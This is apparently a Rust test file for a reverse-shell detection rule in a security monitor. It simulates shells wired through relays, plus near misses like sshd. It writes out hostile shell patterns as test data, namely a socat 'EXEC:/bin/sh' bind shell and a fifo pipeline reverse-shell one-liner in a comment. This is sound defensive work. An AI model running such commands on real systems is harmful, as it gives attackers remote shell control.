//! rg-reverse-shell from the kernel's relay evidence (relay.rs): the
//! parent holding the other ends and a connection, a pipeline partner
//! connecting before or after, one alert per shell, and the near misses.

use std::sync::Arc;

use super::tests::{findings, findings_of};
use super::*;
use crate::model::event::{Body, FdType, ParentSocket, StdioFd, StdioWiring};
use crate::testkit::{chain, connect, exec, exec_with, exit, process};

fn fd(kind: FdType, inode: u64, peer_inode: u64) -> StdioFd {
    StdioFd {
        kind,
        inode,
        peer_inode,
    }
}

/// `p`'s exec with `fds` on 0..2, and what the kernel saw of its parent.
fn wired(ms: u64, p: &Arc<Process>, fds: [StdioFd; 3], parent: Option<(u8, &str)>) -> Event {
    exec_with(ms, p, |x| {
        x.stdio = StdioWiring {
            fds,
            scanned: parent.is_some(),
            parent_holds: parent.map_or(0, |(h, _)| h),
            parent_socket: parent.map(|(_, remote)| ParentSocket {
                inode: 77,
                local_port: 40000,
                remote: (!remote.is_empty()).then(|| remote.parse().unwrap()),
            }),
        }
    })
}

const PIPES: [StdioFd; 3] = [
    StdioFd {
        kind: FdType::Pipe,
        inode: 10,
        peer_inode: 0,
    },
    StdioFd {
        kind: FdType::Pipe,
        inode: 11,
        peer_inode: 0,
    },
    StdioFd {
        kind: FdType::Pipe,
        inode: 11,
        peer_inode: 0,
    },
];

#[test]
fn the_parent_holding_the_pipes_and_a_connection_is_a_relay() {
    // A python relay: socket + subprocess pipes, then /bin/sh.
    let py = process(300, "/usr/bin/python3.11", &["python3", "relay.py"], None);
    let sh = process(301, "/usr/bin/dash", &["/bin/sh"], Some(py.clone()));
    let out = findings(&[wired(0, &sh, PIPES, Some((7, "10.0.0.9:4444")))]);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].rule.id, "rg-reverse-shell");
    assert_eq!(out[0].rule.severity, Severity::Critical);
    assert_eq!(
        out[0].message,
        "shell pid 301 reads commands through a relay: /usr/bin/python3.11 (pid 300) holds its \
         stdin, stdout, stderr and a socket to 10.0.0.9:4444"
    );
    assert_eq!(
        out[0].reasons,
        [
            "the kernel saw the parent /usr/bin/python3.11 (pid 300) hold the other end of the \
          shell's stdin, stdout, stderr (pipe inode 10) and an internet socket (inode 77) to \
          10.0.0.9:4444"
        ]
    );
    let ev: Vec<_> = out[0]
        .evidence
        .iter()
        .map(|e| (e.pid, e.destination))
        .collect();
    assert_eq!(
        ev,
        [(300, Some("10.0.0.9:4444".parse().unwrap())), (301, None)]
    );

    // socat EXEC: a socket pair on stdin and stdout; a listening relay
    // (bind shell) is high: no peer to name yet.
    let socat = process(
        310,
        "/usr/bin/socat",
        &["socat", "TCP-LISTEN:9001", "EXEC:/bin/sh"],
        None,
    );
    let sh = process(311, "/usr/bin/dash", &["/bin/sh"], Some(socat.clone()));
    let pair = fd(FdType::Unix, 20, 21);
    let out = findings(&[
        exec(0, &socat),
        wired(1, &sh, [pair, pair, fd(FdType::Tty, 3, 0)], Some((3, ""))),
    ]);
    // One alert for the shell: the relay's name (socat EXEC:) says it too.
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].rule.severity, Severity::High);
    assert!(
        out[0]
            .message
            .ends_with("holds its stdin, stdout and a socket to a listening socket"),
        "{}",
        out[0].message
    );
}

#[test]
fn a_pipeline_partner_connecting_before_or_after_is_a_relay() {
    let top = chain(&["/sbin/init", "/usr/bin/bash"]).unwrap();
    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(top.clone()));
    // cat f | sh -i 2>&1 | relayd 10.0.0.9 4444 > f, nc under a name no
    // list knows: the shell's stdout pipe (11) is the relay's stdin.
    let cat = child(400, "/usr/bin/cat", &["cat", "/tmp/f"]);
    let sh = child(401, "/usr/bin/dash", &["/bin/sh", "-i"]);
    let relay = child(402, "/tmp/relayd", &["relayd", "10.0.0.9", "4444"]);
    let fifo = fd(FdType::Fifo, 12, 0);
    let cat_ev = wired(0, &cat, [fifo, PIPES[0], fd(FdType::Tty, 3, 0)], None);
    let sh_ev = wired(1, &sh, PIPES, None);
    let relay_ev = wired(2, &relay, [PIPES[1], fifo, fd(FdType::Tty, 3, 0)], None);
    let conn = connect(3, &relay, "10.0.0.9:4444");
    // Connect after the shell, or the relay (and its connect) first.
    for order in [
        vec![&cat_ev, &sh_ev, &relay_ev, &conn],
        vec![&relay_ev, &conn, &cat_ev, &sh_ev],
    ] {
        let events: Vec<Event> = order.into_iter().cloned().collect();
        let out = findings(&events);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert_eq!(out[0].rule.severity, Severity::Critical);
        assert_eq!(
            out[0].message,
            "shell pid 401 reads commands through a relay: /tmp/relayd (pid 402) holds its \
             stdout, stderr and a socket to 10.0.0.9:4444"
        );
        assert_eq!(
            out[0]
                .evidence
                .iter()
                .map(|e| (e.action, e.pid))
                .collect::<Vec<_>>(),
            [("connect", 402), ("exec", 401)]
        );
    }
    // The relay gone before it connected: its links go with it.
    let out = findings(&[
        sh_ev.clone(),
        relay_ev.clone(),
        exit(3, &relay),
        conn.clone(),
    ]);
    assert!(out.is_empty(), "{out:#?}");
    // A connect long after the shell started is another story.
    let late = connect(relay::RELAY_NS / 1_000_000 + 10, &relay, "10.0.0.9:4444");
    assert!(findings(&[sh_ev, relay_ev, late]).is_empty());
}

#[test]
fn relay_near_misses() {
    let top = chain(&["/sbin/init", "/usr/bin/bash"]).unwrap();
    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(top.clone()));
    let tty = fd(FdType::Tty, 3, 0);
    let nc = child(502, "/tmp/relayd", &["relayd", "h", "9"]);
    let events = [
        // ls | relayd h 9: no shell.
        wired(
            0,
            &child(500, "/usr/bin/ls", &["ls"]),
            [tty, PIPES[1], tty],
            None,
        ),
        // sh -c 'echo hi' | relayd h 9: a command line, not commands in.
        wired(
            0,
            &child(501, "/usr/bin/dash", &["sh", "-c", "echo hi"]),
            [tty, PIPES[1], tty],
            None,
        ),
        // sh build.sh | tee log: a script.
        wired(
            0,
            &child(503, "/usr/bin/dash", &["sh", "build.sh"]),
            [tty, PIPES[1], tty],
            None,
        ),
        wired(1, &nc, [PIPES[1], tty, tty], None),
        connect(2, &nc, "10.0.0.9:9"),
    ];
    assert!(findings(&events).is_empty());

    // A shell reading stdin from a pipe, its output on the terminal,
    // under a parent holding a connection (a program feeding a shell
    // commands): no output goes back through a relay.
    let py = process(510, "/usr/bin/python3", &["python3", "x.py"], None);
    let sh = process(511, "/usr/bin/dash", &["/bin/sh"], Some(py));
    assert!(findings(&[wired(0, &sh, [PIPES[0], tty, tty], Some((1, "10.0.0.9:1")))]).is_empty());
    // The parent holds a connection but not the shell's pipes (they lead
    // elsewhere), or holds the pipes and no connection.
    let py = process(520, "/usr/bin/python3", &["python3", "x.py"], None);
    let sh = process(521, "/usr/bin/dash", &["/bin/sh"], Some(py));
    let mut no_sock = wired(1, &sh, PIPES, Some((7, "")));
    if let Body::Exec(x) = &mut no_sock.body {
        x.stdio.parent_socket = None;
    }
    assert!(findings(&[wired(0, &sh, PIPES, Some((0, "10.0.0.9:1"))), no_sock]).is_empty());
    // ssh -T host: sshd runs the login shell on a socket pair and holds
    // the connection, by design.
    let sshd = process(530, "/usr/sbin/sshd", &["sshd: alice@notty"], None);
    let sh = process(531, "/usr/bin/bash", &["-bash"], Some(sshd));
    let pair = fd(FdType::Unix, 20, 21);
    assert!(
        findings(&[wired(
            0,
            &sh,
            [pair, pair, pair],
            Some((7, "10.0.0.9:50000"))
        )])
        .is_empty()
    );
}

#[test]
fn relay_state_is_bounded_and_counted() {
    let d = config::Detections {
        correlation_max_entries: 4,
        ..Default::default()
    };
    let mut c = Correlator::new(&d).unwrap();
    let top = chain(&["/sbin/init"]).unwrap();
    let tty = fd(FdType::Tty, 3, 0);
    let mut events = Vec::new();
    for i in 0..20u32 {
        let p = process(600 + i, "/usr/bin/cat", &["cat"], Some(top.clone()));
        let pipe = fd(FdType::Pipe, 1000 + u64::from(i), 0);
        events.push(wired(u64::from(i), &p, [pipe, tty, tty], None));
    }
    findings_of(&mut c, &events);
    let s = c.shells.as_ref().unwrap();
    assert!(s.relays.len() <= 2 * 4, "{}", s.relays.len());
    // 20 holders and 20 ends into windows of 4 each.
    assert_eq!(s.relays.evicted(), 2 * (20 - 4));
    assert!(c.evictions() >= 32);
}
